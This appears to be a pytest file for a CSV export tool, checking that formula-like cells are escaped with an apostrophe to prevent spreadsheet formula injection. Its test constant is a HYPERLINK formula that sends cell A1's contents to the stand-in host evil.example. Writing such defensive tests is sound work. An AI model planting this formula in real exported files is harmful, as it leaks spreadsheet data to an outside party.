"""No CSV cell that cxfield writes runs as a formula in a spreadsheet: one escaping rule
(``csv_format.safe``) for the study tables and the A-11 file, with leading blanks too."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from sqlmodel import select

from cxfield.app import AppContext
from cxfield.export import jobs
from cxfield.export.csv_format import safe
from cxfield.services import demo, journey_editor, templates
from cxfield.storage.models import Note, ResearchSession

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    "text",
    [FORMULA, "+1+1", "-2+3", "@SUM(A1:A2)", "  =1+1", "\t=1+1", "\n=1+1", " \t @x",
     "\tplain", "\rplain", "\uff1d1+1"],
)  # fmt: skip
def test_formula_looking_text_gets_an_apostrophe(text: str) -> None:
    assert safe(text) == "'" + text


@pytest.mark.parametrize("text", ["Front desk", "a=b", "e-mail", "  waited 40 min", "", None])
def test_plain_text_is_kept(text: str | None) -> None:
    assert safe(text) == (text or "")


def _cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def test_a11_csv_escapes_the_study_and_program_names(ctx: AppContext, tmp_path: Path) -> None:
    definition = templates.load_template("benefits-office-visit")
    study = templates.create_from_definition(ctx.db, definition, name=FORMULA)
    journey_editor.update_study(ctx.db, study.id, program="  @cmd", agency="-Agency")
    out = tmp_path / "a11.csv"
    jobs.export_a11_csv(ctx.db, study.id, "2026Q4", out)
    cells = _cells(out)
    assert "'" + FORMULA in cells and FORMULA not in cells
    # every cell a person typed is escaped; the wording around the program name is not
    assert not [c for c in cells if c.lstrip(" \t\r\n").startswith(("=", "+", "-", "@"))]
    assert any(c.startswith("I am satisfied with the service I received from") for c in cells)


def test_csv_tables_escape_free_text_after_leading_blanks(ctx: AppContext, tmp_path: Path) -> None:
    study = demo.create_demo(ctx.db, 2, seed=3)
    texts = ["  =1+1", "\t@SUM(A1)", "\n-2+3", " fine"]
    with ctx.db.session() as db:
        session = db.exec(select(ResearchSession).where(ResearchSession.study_id == study.id))
        first = session.first()
        assert first is not None
        for text in texts:
            db.add(Note(session_id=first.id, text=text, tags=[]))
    jobs.export_study_csv(ctx.db, study.id, tmp_path / "csv")
    cells = _cells(tmp_path / "csv" / "notes.csv")
    assert {"'  =1+1", "'\t@SUM(A1)", "'\n-2+3", " fine"} <= set(cells)
    for table in (tmp_path / "csv").iterdir():
        live = [c for c in _cells(table) if c.lstrip(" \t\r\n").startswith(("=", "+", "@"))]
        assert live == [], table.name
